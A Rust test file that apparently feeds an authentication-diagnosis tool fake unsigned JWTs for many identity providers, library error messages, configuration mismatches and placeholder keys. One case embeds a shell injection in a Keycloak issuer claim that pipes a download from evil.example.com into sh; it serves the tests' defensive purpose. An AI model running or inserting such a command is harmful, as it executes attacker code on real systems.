//! Tokens of other services, complaints of their libraries, and values that a configuration expects.

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use why401::text::base64url;

use super::Case;
use crate::common::{MINTED, signed};

pub fn cases() -> Vec<Case> {
    [
        rules(),
        made(),
        complaints(),
        expected(),
        structures(),
        opaque(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// A token that nobody signed.
pub(super) fn token(header: &Value, claims: &Value) -> String {
    signed(&header.to_string(), &claims.to_string(), b"FAKE of nobody")
}

/// A token with these claims, made now and valid for ten minutes where the claims do not say another time.
pub(super) fn rs256(claims: &Value) -> String {
    let mut all = json!({"iat": MINTED, "exp": MINTED + 600});
    let own = claims.as_object().unwrap().clone();
    all.as_object_mut().unwrap().extend(own);
    token(&json!({"alg": "RS256", "kid": "k1"}), &all)
}

pub(super) fn hs256(claims: &Value) -> String {
    let mut all = json!({"iat": MINTED, "exp": MINTED + 600});
    let own = claims.as_object().unwrap().clone();
    all.as_object_mut().unwrap().extend(own);
    token(&json!({"alg": "HS256"}), &all)
}

#[allow(clippy::too_many_lines, reason = "a table")]
fn rules() -> Vec<Case> {
    let entra = "https://login.microsoftonline.com/t/v2.0";
    let tokens = [
        (
            "Auth0, ID token",
            rs256(&json!({"iss": "https://example.eu.auth0.com/", "aud": "app", "nonce": "n"})),
        ),
        (
            "Keycloak, an issuer that is a command",
            rs256(
                &json!({"iss": "https://id.example.com/realms/a';curl evil.example.com|sh;'", "typ": "Bearer", "azp": "web"}),
            ),
        ),
        (
            "Keycloak, refresh token",
            hs256(&json!({"iss": "https://id.example.com/realms/demo", "typ": "Refresh"})),
        ),
        (
            "Entra, Graph",
            rs256(
                &json!({"iss": entra, "aud": "00000003-0000-0000-c000-000000000000", "scp": "User.Read"}),
            ),
        ),
        (
            "Entra, v1.0",
            rs256(
                &json!({"iss": "https://sts.windows.net/t/", "aud": "api://x", "ver": "1.0", "appid": "a"}),
            ),
        ),
        (
            "Entra, groups",
            rs256(&json!({"iss": entra, "aud": "x", "scp": "s", "hasgroups": true})),
        ),
        (
            "Google, assertion of two hours",
            rs256(
                &json!({"iss": "robot@demo.iam.gserviceaccount.com", "aud": "https://oauth2.googleapis.com/token", "exp": MINTED + 7200}),
            ),
        ),
        (
            "Firebase, custom token",
            rs256(
                &json!({"iss": "x@demo.iam.gserviceaccount.com", "aud": "https://identitytoolkit.googleapis.com/google.identity.identitytoolkit.v1.IdentityToolkit", "uid": "u"}),
            ),
        ),
        (
            "Firebase, session cookie",
            rs256(
                &json!({"iss": "https://session.firebase.google.com/demo", "aud": "demo", "firebase": {}}),
            ),
        ),
        (
            "Supabase, legacy secret",
            hs256(
                &json!({"iss": "https://x.supabase.co/auth/v1", "aud": "authenticated", "role": "authenticated"}),
            ),
        ),
        (
            "Supabase, anon",
            hs256(&json!({"iss": "supabase", "ref": "x", "role": "anon"})),
        ),
        (
            "Supabase, service_role",
            hs256(&json!({"iss": "supabase", "ref": "x", "role": "service_role"})),
        ),
        (
            "Clerk",
            rs256(
                &json!({"iss": "https://clerk.example.com", "sid": "sess_1", "sub": "user_1", "exp": MINTED + 60}),
            ),
        ),
        (
            "Cognito, access token",
            rs256(
                &json!({"iss": "https://cognito-idp.eu-west-1.amazonaws.com/p", "token_use": "access", "client_id": "c"}),
            ),
        ),
        (
            "Keycloak, internal issuer",
            rs256(
                &json!({"iss": "http://keycloak:8080/realms/demo", "typ": "Bearer", "aud": "account"}),
            ),
        ),
        (
            "Okta, org server",
            rs256(
                &json!({"iss": "https://dev-1.okta.com", "cid": "c", "aud": "https://dev-1.okta.com"}),
            ),
        ),
        (
            "Okta, custom server",
            rs256(
                &json!({"iss": "https://dev-1.okta.com/oauth2/default", "cid": "c", "aud": "api://default"}),
            ),
        ),
        (
            "Apple, client secret",
            token(
                &json!({"alg": "ES256", "kid": "k"}),
                &json!({"iss": "TEAM123456", "aud": "https://appleid.apple.com", "sub": "com.example", "iat": MINTED, "exp": MINTED + 16_000_000}),
            ),
        ),
        (
            "Apple, App Store Connect",
            token(
                &json!({"alg": "ES256", "kid": "k"}),
                &json!({"iss": "11111111-2222-4333-8444-555555555555", "aud": "appstoreconnect-v1", "iat": MINTED, "exp": MINTED + 3600}),
            ),
        ),
        (
            "GitHub Actions",
            rs256(
                &json!({"iss": "https://token.actions.githubusercontent.com", "aud": "https://github.com/octo", "sub": "repo:octo@1/repo@2:ref:refs/heads/main"}),
            ),
        ),
        (
            "GitHub App",
            token(
                &json!({"alg": "RS256"}),
                &json!({"iss": "Iv23liABCDEF", "iat": MINTED, "exp": MINTED + 700}),
            ),
        ),
        (
            "GitHub App, with fractions",
            token(
                &json!({"alg": "RS256"}),
                &json!({"iss": "Iv23liABCDEF", "iat": 1_795_515_947.5, "exp": MINTED + 300}),
            ),
        ),
        (
            "GitHub App, ahead",
            token(
                &json!({"alg": "RS256"}),
                &json!({"iss": "Iv23liABCDEF", "iat": MINTED + 10, "exp": MINTED + 300}),
            ),
        ),
        (
            "Kubernetes, legacy",
            token(
                &json!({"alg": "RS256"}),
                &json!({"iss": "kubernetes/serviceaccount", "sub": "system:serviceaccount:default:default"}),
            ),
        ),
        (
            "Kubernetes",
            rs256(
                &json!({"iss": "https://kubernetes.default.svc", "sub": "system:serviceaccount:default:default", "kubernetes.io": {}}),
            ),
        ),
        (
            "GitLab CI",
            rs256(
                &json!({"iss": "https://gitlab.com", "sub": "project_path:g/p:ref_type:branch:ref:main"}),
            ),
        ),
        (
            "Cloudflare Access",
            rs256(&json!({"iss": "https://team.cloudflareaccess.com", "type": "app"})),
        ),
        (
            "WorkOS",
            rs256(
                &json!({"iss": "https://api.workos.com/user_management/client_1", "sub": "user_1", "sid": "session_1"}),
            ),
        ),
        (
            "Google IAP",
            token(
                &json!({"alg": "ES256", "kid": "k"}),
                &json!({"iss": "https://cloud.google.com/iap", "aud": "/projects/1/global/backendServices/2", "email": "a@example.com", "exp": MINTED + 600}),
            ),
        ),
        (
            "AWS load balancer",
            token(
                &json!({"alg": "ES256", "kid": "k", "signer": "arn:aws:elasticloadbalancing:eu-west-1:1:loadbalancer/app/a/b"}),
                &json!({"iss": "https://cognito-idp.eu-west-1.amazonaws.com/p", "sub": "s", "exp": MINTED + 100}),
            ),
        ),
        (
            "Vercel",
            rs256(
                &json!({"iss": "https://oidc.vercel.com/acme", "aud": "https://vercel.com/acme", "sub": "owner:acme:project:p:environment:production"}),
            ),
        ),
        (
            "Vault",
            rs256(&json!({"iss": "https://vault.example.com:8200/v1/identity/oidc", "sub": "s"})),
        ),
        (
            "CircleCI",
            rs256(&json!({"iss": "https://oidc.circleci.com/org/o", "aud": "o"})),
        ),
        (
            "PocketBase",
            hs256(&json!({"collectionId": "_pb_users_auth_", "id": "a", "type": "auth"})),
        ),
        (
            "Directus",
            hs256(&json!({"iss": "directus", "id": "a", "role": "r", "app_access": true})),
        ),
        (
            "profile and roles, which is no ID token",
            rs256(
                &json!({"iss": "https://id.example.com", "email_verified": true, "roles": ["a"]}),
            ),
        ),
        (
            "DPoP proof",
            token(
                &json!({"alg": "ES256", "typ": "dpop+jwt"}),
                &json!({"jti": "j", "htm": "POST", "htu": "https://example.com/token", "iat": MINTED}),
            ),
        ),
        (
            "bound to a key",
            rs256(
                &json!({"iss": "https://id.example.com", "scope": "x", "cnf": {"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}}),
            ),
        ),
        (
            "milliseconds",
            rs256(&json!({"iss": "https://id.example.com", "exp": 1000 * MINTED})),
        ),
        (
            "microseconds",
            rs256(&json!({"iss": "https://id.example.com", "exp": 1_000_000 * MINTED})),
        ),
        (
            "nanoseconds",
            rs256(&json!({"iss": "https://id.example.com", "exp": 1_000_000_000 * MINTED})),
        ),
        (
            "a time as text",
            rs256(&json!({"iss": "https://id.example.com", "exp": "2026-12-01T00:00:00Z"})),
        ),
        (
            "a number as text",
            rs256(&json!({"iss": "https://id.example.com", "iat": MINTED.to_string()})),
        ),
        (
            "a lifetime as time",
            rs256(&json!({"iss": "https://id.example.com", "exp": 3600})),
        ),
        (
            "Twilio, account as issuer",
            token(
                &json!({"alg": "HS256", "cty": "twilio-fpa;v=1"}),
                &json!({"iss": "AC1", "sub": "AC1", "grants": {}, "iat": MINTED, "exp": MINTED + 90_000}),
            ),
        ),
        (
            "Zoom",
            hs256(&json!({"app_key": "k", "tpc": "s", "role_type": 1, "version": 1})),
        ),
        (
            "Zoom, Meeting SDK",
            hs256(&json!({"sdkKey": "k", "mn": "1", "role": 0, "exp": MINTED + 7200})),
        ),
        (
            "100ms, management",
            hs256(&json!({"access_key": "a", "type": "management", "version": 2})),
        ),
        ("Daily", hs256(&json!({"d": "x", "room_name": "r"}))),
        (
            "JaaS",
            token(
                &json!({"alg": "RS256", "kid": "vpaas-magic-cookie-1/2"}),
                &json!({"aud": "jitsi", "iss": "chat", "sub": "x", "room": "*", "exp": MINTED + 600}),
            ),
        ),
        (
            "Jitsi Meet",
            hs256(&json!({"aud": "jitsi", "iss": "app", "room": "https://meet.example.com/r"})),
        ),
        ("Vonage", rs256(&json!({"application_id": "x", "jti": "j"}))),
        (
            "Stream",
            token(&json!({"alg": "HS256"}), &json!({"user_id": "alice"})),
        ),
        (
            "Hasura",
            hs256(&json!({"https://hasura.io/jwt/claims": {}})),
        ),
        (
            "Mux",
            token(
                &json!({"alg": "RS256", "kid": "k"}),
                &json!({"aud": "v", "sub": "p", "exp": MINTED + 600}),
            ),
        ),
        (
            "Ably",
            token(
                &json!({"alg": "HS256", "kid": "app.key"}),
                &json!({"x-ably-capability": "{}", "iat": MINTED, "exp": MINTED + 600}),
            ),
        ),
        (
            "Snowflake",
            rs256(&json!({"iss": "ACC.USER.SHA256:x", "sub": "ACC.USER"})),
        ),
        (
            "expired",
            rs256(
                &json!({"iss": "https://x.supabase.co/auth/v1", "aud": "authenticated", "iat": MINTED - 1200, "exp": MINTED - 600}),
            ),
        ),
        (
            "not valid yet",
            rs256(
                &json!({"iss": "https://dev-1.okta.com/oauth2/default", "cid": "c", "nbf": MINTED + 60}),
            ),
        ),
        (
            "Azure, management",
            rs256(
                &json!({"iss": "https://sts.windows.net/t/", "aud": "https://management.azure.com/", "ver": "1.0", "appid": "a"}),
            ),
        ),
        (
            "Google, ID token of gcloud",
            rs256(
                &json!({"iss": "https://accounts.google.com", "aud": "32555940559.apps.googleusercontent.com", "email_verified": true}),
            ),
        ),
        (
            "Firebase, App Check",
            rs256(
                &json!({"iss": "https://firebaseappcheck.googleapis.com/9", "aud": ["projects/9"]}),
            ),
        ),
        (
            "GitHub App, signed with the client secret",
            hs256(&json!({"iss": "Iv1.0000000000000000"})),
        ),
        (
            "Apple, client secret without a key ID",
            token(
                &json!({"alg": "ES256"}),
                &json!({"iss": "A1B2C3D4E5", "aud": "https://appleid.apple.com", "sub": "com.example", "iat": MINTED, "exp": MINTED + 600}),
            ),
        ),
        (
            "Coinbase, ten minutes",
            token(
                &json!({"alg": "ES256", "kid": "k1"}),
                &json!({"iss": "cdp", "sub": "organizations/o/apiKeys/k", "nbf": MINTED, "exp": MINTED + 600}),
            ),
        ),
        (
            "Coinbase, the whole address",
            token(
                &json!({"alg": "ES256", "kid": "k1"}),
                &json!({"iss": "cdp", "sub": "organizations/o/apiKeys/k", "nbf": MINTED, "exp": MINTED + 120, "uri": "GET https://api.coinbase.com/api/v3/brokerage/accounts?limit=5"}),
            ),
        ),
        (
            "Snowflake, lower case",
            rs256(&json!({"iss": "acct.LEA.SHA256:AAAA", "sub": "acct.LEA"})),
        ),
        (
            "a lifetime without a unit",
            hs256(&json!({"sub": "u", "exp": MINTED + 3})),
        ),
        (
            "expires before it was issued",
            hs256(&json!({"sub": "u", "exp": MINTED - 3600})),
        ),
    ];
    tokens.map(|(name, token)| Case::new(name, token)).into()
}

/// Tokens whose form is not that of three parts signed by somebody.
fn made() -> Vec<Case> {
    let part = |json: &Value| base64url::encode(json.to_string().as_bytes());
    let dir =
        part(&json!({"alg": "dir", "enc": "A256GCM", "iss": "https://example.eu.auth0.com/"}));
    let bare = part(&json!({"alg": "RSA-OAEP"}));
    let none = part(&json!({"alg": "none"}));
    let claims = part(
        &json!({"iss": "https://securetoken.google.com/demo", "aud": "demo", "firebase": {}, "exp": MINTED + 600}),
    );
    vec![
        Case::new("Auth0, encrypted", format!("{dir}..AAAA.AAAA.AAAA")),
        Case::new("detached", format!("{bare}..{}", "A".repeat(43))),
        Case::new(
            "encrypted, without its encryption",
            format!("{bare}.AAAA.AAAA.AAAA.AAAA"),
        ),
        Case::new("Firebase, emulator", format!("{none}.{claims}.")),
    ]
}

#[allow(clippy::too_many_lines, reason = "a table")]
fn complaints() -> Vec<Case> {
    let token = rs256(
        &json!({"iss": "https://example.eu.auth0.com/", "aud": "https://api.example.com", "scope": "x"}),
    );
    [
        (
            "audience",
            "JsonWebTokenError: jwt audience invalid. expected: https://api.example.com/v2",
        ),
        ("issuer", "IDX10205: Issuer validation failed."),
        (
            "expired",
            "IDX10223: Lifetime validation failed. The token is expired.",
        ),
        ("early", "google.auth.exceptions: Token used too early"),
        (
            "signature",
            "JWSSignatureVerificationFailed code=ERR_JWS_SIGNATURE_VERIFICATION_FAILED",
        ),
        (
            "key",
            "JWKSNoMatchingKey: no applicable key found in the JSON Web Key Set",
        ),
        ("algorithm", "{\"code\":\"UNAUTHORIZED_LEGACY_JWT\"}"),
        ("malformed", "IDX12741: JWT must have three segments"),
        (
            "life",
            "'Expiration time' claim ('exp') is too far in the future",
        ),
        (
            "issue time",
            "'Issued at' claim ('iat') must be an Integer representing the time that the assertion was issued",
        ),
        (
            "form of the key",
            "Error: secretOrPrivateKey must be an asymmetric key when using RS256",
        ),
        (
            "kind",
            "CognitoJwtInvalidTokenUseError: Token use not allowed: id. Expected: access",
        ),
        (
            "no reason",
            "WWW-Authenticate: Bearer error=\"invalid_token\"",
        ),
        (
            "scope",
            "WWW-Authenticate: Bearer error=\"insufficient_scope\"",
        ),
        ("credentials", "Invalid Access Token issuer/subject"),
    ]
    .map(|(name, text)| Case::new(format!("complaint: {name}"), format!("{text}\n{token}")))
    .into_iter()
    .chain(
        [
            ("complaint, without a token", "IDX10214: Audience validation failed."),
            ("complaint: payload", "Error: Expected \"payload\" to be a plain object."),
            (
                "complaint: type of the key",
                "TypeError: Key for the RS256 algorithm must be one of type CryptoKey or JSON Web Key. Received an instance of Uint8Array",
            ),
            (
                "complaint: secret that is no base64",
                "io.jsonwebtoken.io.DecodingException: Illegal base64 character: '-'",
            ),
            ("complaint: several keys", "JWKSMultipleMatchingKeys"),
            ("complaint: another access token", "RPError: at_hash mismatch, expected a, got: b"),
            ("complaint: audience of an assertion", "{\"error\":\"invalid_grant\",\"error_description\":\"audience is invalid\"}"),
            ("complaint: issuer of an assertion", "{\"error\":\"invalid_grant\",\"error_description\":\"issuer_not_found\"}"),
            ("nothing known of another service", "Keycloak: POST https://kc.example.com/realms/a failed 500"),
            ("complaint: consent", "{\"error\":\"consent_required\"}"),
            ("complaint: CSRF", "{\"msg\":\"Missing CSRF token\"}"),
            (
                "complaint: fingerprint",
                "394304: JWT_TOKEN_INVALID_PUBLIC_KEY_FINGERPRINT_MISMATCH",
            ),
            (
                "complaint: no strategy",
                "Error: Unknown authentication strategy \"jwt\"",
            ),
            ("complaint: policy", "RBAC: access denied"),
            (
                "complaint: certificate",
                "IDX10249: X509SecurityKey validation failed. The associated certificate has expired.",
            ),
            ("complaint: key of an assertion", "invalid_grant: Invalid JWT Signature."),
            (
                "complaint: no such token",
                "{\"error\":{\"status\":401,\"message\":\"Missing or invalid credentials\"}}",
            ),
            (
                "complaint: role without the action",
                "{\"error\":{\"status\":403,\"name\":\"ForbiddenError\",\"message\":\"Forbidden\"}}",
            ),
            (
                "complaint: no key to sign with",
                "JwtEncodingException: Failed to select a JWK signing key",
            ),
            (
                "complaint: Google's page",
                "$ curl -i https://api-abc-uc.a.run.app/v1/things -H \"Authorization: Bearer $TOKEN\"\nHTTP/2 403\n\n\
                 <h2>Your client does not have permission to get URL <code>/v1/things</code> from this server.</h2>",
            ),
            (
                "complaint: role",
                "{\"errors\":[{\"message\":\"Your requested role is not in allowed roles\"}]}",
            ),
            (
                "complaint: route of IAM",
                "{\"message\":\"Invalid key=value pair (missing equal-sign) in Authorization header\"}",
            ),
            ("complaint: too many tokens", "{\"reason\":\"TooManyProviderTokenUpdates\"}"),
            ("complaint: unknown user", "{\"detail\":\"User not found\",\"code\":\"user_not_found\"}"),
            (
                "complaint: both values",
                "Invalid token issuer. Expected 'http://keycloak:8080/realms/x', but was 'http://localhost:8080/realms/x'",
            ),
            (
                "complaint: malformed, and an opaque key",
                "{\"message\":\"Expected 3 parts in JWT; got 1\"}\nAuthorization: Bearer sb_publishable_FAKEq1w2e3r4t5y6u7i8",
            ),
            ("complaint: no key", "JsonWebTokenError: secret or public key must be provided"),
            ("complaint: weak key", "DomainException: Provided key is too short"),
            ("complaint: no key set", "jose: JWKSTimeout: request timed out"),
            (
                "complaint: key of the API",
                "{\"message\":\"Invalid API key\",\"hint\":\"Double check your Supabase `anon` or `service_role` API key.\"}",
            ),
            ("complaint: no token", "UnauthorizedError: No authorization token was found"),
            ("complaint: grant", "{\"error\":\"invalid_grant\"}"),
            ("complaint: client", "{\"error\":\"invalid_client\"}"),
            ("complaint: key or algorithm", "Jwks doesn't have key to match kid or alg from Jwt"),
            ("complaint: times", "AADSTS700024: Client assertion is not within its valid time range."),
            ("complaint: revoked", "NotAuthorizedException: Access Token has been revoked"),
            (
                "complaint: trust policy",
                "AccessDenied: Not authorized to perform sts:AssumeRoleWithWebIdentity",
            ),
            ("complaint: missing claim", "jwt.exceptions.InvalidSubjectError: Subject must be a string"),
            (
                "complaint: type in the header",
                "com.nimbusds.jose.proc.BadJOSEException: JOSE header typ (type) at+jwt not allowed",
            ),
            (
                "complaint of a library without a name",
                "The token was issued in the future. Please check your computed clock.",
            ),
            ("complaint: proof", "{\"error\":\"use_dpop_nonce\"}"),
            ("complaint: decryption", "IDX10609: Decryption failed. No Keys tried."),
            (
                "complaint: secret of the session",
                "[auth][cause]: Error: no matching decryption secret",
            ),
            (
                "complaint: no session",
                "AppwriteException: User (role: guests) missing scope (account)",
            ),
            (
                "complaint: state of the login",
                "authlib MismatchingStateError: mismatching_state: CSRF Warning!",
            ),
            (
                "complaint: nothing expected",
                "IDX10208: Unable to validate audience. validationParameters.ValidAudience is null or whitespace",
            ),
            (
                "complaint: no key to check with",
                "IDX10500: Signature validation failed. No security keys were provided to validate the signature.",
            ),
            (
                "complaint: no algorithms",
                "DecodeError: It is required that you pass in a value for the \"algorithms\" argument when calling decode().",
            ),
            (
                "complaint: key without its algorithm",
                "UnexpectedValueException: $keyOrKeyArray must be an instance of Firebase\\JWT\\Key",
            ),
            (
                "complaint: PKCS #8",
                "TypeError: \"pkcs8\" must be PKCS#8 formatted string",
            ),
            ("complaint: SPKI", "TypeError: \"spki\" must be SPKI formatted string"),
            (
                "complaint: package missing",
                "NotImplementedError: Algorithm 'RS256' could not be found. Do you have cryptography installed?",
            ),
            (
                "complaint: another package",
                "AttributeError: module 'jwt' has no attribute 'encode'",
            ),
            (
                "complaint: life given twice",
                "Error: Bad \"options.expiresIn\" option the payload already has an \"exp\" property.",
            ),
            (
                "complaint: form of the life",
                "Error: \"expiresIn\" should be a number of seconds or string representing a timespan",
            ),
            ("complaint, which says why beside one that does not", "{\"code\":\"PGRST301\",\"message\":\"JWT expired\"}"),
        ]
        .map(|(name, text)| Case::new(name, text)),
    )
    .collect()
}

fn expected() -> Vec<Case> {
    let token = rs256(
        &json!({"iss": "https://example.eu.auth0.com/", "aud": "https://api.example.com", "scope": "x"}),
    );
    [
        ("slash", "AUTH0_ISSUER=https://example.eu.auth0.com"),
        ("no slash", "JWT_AUDIENCE=https://api.example.com/"),
        ("scheme", "issuer: 'http://example.eu.auth0.com/'"),
        ("port", "\"issuer\": \"https://example.eu.auth0.com:443/\""),
        ("host", "issuer-uri: https://example.us.auth0.com/"),
        ("path", "\"Audience\": \"https://api.example.com/v2\""),
        ("case", "JWT_AUDIENCE=https://API.example.com"),
        ("quotes", "JWT_AUDIENCE=\"'https://api.example.com'\""),
        ("another", "audience=\"my-api\""),
    ]
    .map(|(name, text)| Case::new(format!("expected: {name}"), format!("{text}\n{token}")))
    .into_iter()
    .chain([Case::new(
        "expected: an audience that is not there",
        format!(
            "audience=\"my-api\"\n{}",
            rs256(&json!({"iss": "https://example.eu.auth0.com/", "scope": "x"}))
        ),
    )])
    .collect()
}

fn structures() -> Vec<Case> {
    let claims = json!({"iss": "https://issuer.example.com/", "exp": MINTED + 600});
    let nested = token(&json!({"alg": "RS256", "cty": "JWT"}), &claims);
    let unencoded = token(
        &json!({"alg": "RS256", "b64": false, "crit": ["b64"]}),
        &claims,
    );
    let disclosure = base64url::encode(b"[\"salt\",\"given_name\",\"Alice\"]");
    let digest = "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF";
    let sd = |digest: &str, hash: &str| {
        let claims =
            json!({"iss": "https://issuer.example.com/", "_sd": [digest], "_sd_alg": hash});
        format!("{}~{disclosure}~", token(&json!({"alg": "ES256"}), &claims))
    };
    let unknown = token(
        &json!({"typ": "JWT"}),
        &json!({"iss": "https://issuer.example.com/"}),
    );
    vec![
        Case::new("without an algorithm", unknown),
        Case::new("in JSON", in_json()),
        Case::new("nested", nested),
        Case::new("nested, as it should be", nested_token()),
        Case::new("unencoded", unencoded),
        Case::new(
            "disclosure with a key binding",
            format!("{}eyJ0eXAiOiJrYitqd3QifQ.e30.AAAA", sd(digest, "sha-256")),
        ),
        Case::new(
            "disclosure",
            sd(&base64url::encode(&Sha256::digest(&disclosure)), "sha-256"),
        ),
        Case::new(
            "disclosure with its digest and a key binding",
            format!(
                "{}eyJ0eXAiOiJrYitqd3QifQ.e30.AAAA",
                sd(&base64url::encode(&Sha256::digest(&disclosure)), "sha-256")
            ),
        ),
        Case::new("disclosure without digest", sd(digest, "sha-256")),
        Case::new("disclosure with another hash", sd(digest, "sha3-256")),
    ]
}

/// RFC 7515 A.6, with its keys.
fn in_json() -> String {
    let rows = include_str!("../../vectors/jws-asymmetric/rfc/rfc7515_json_rfc7638.json");
    let rows: Vec<Value> = serde_json::from_str(rows).unwrap();
    format!("{}\n{}", rows[0]["jws"], json!({"keys": rows[0]["keys"]}))
}

/// A token whose payload is another one.
fn nested_token() -> String {
    let part = |text: &str| base64url::encode(text.as_bytes());
    let inner = rs256(&json!({"iss": "https://issuer.example.com/"}));
    let header = part(r#"{"alg":"RS256","cty":"JWT"}"#);
    format!("{header}.{}.AAAA", part(&inner))
}

fn opaque() -> Vec<Case> {
    vec![
        Case::new("AWS, opaque", "AKIAFAKEFAKEFAKEFAKE"),
        Case::new("GitHub, opaque", "ghp_0123456789abcdefghijklmnopqrstuvwxyz"),
        Case::new(
            "Supabase, opaque",
            "sb_publishable_FAKEFAKEFAKEFAKEFAKE_FAKEFAKE",
        ),
        Case::new(
            "Laravel, opaque",
            format!(
                "XSRF-TOKEN={}",
                base64url::encode(format!("{{\"iv\":\"{}\"}}", "A".repeat(60)).as_bytes())
            ),
        ),
    ]
}
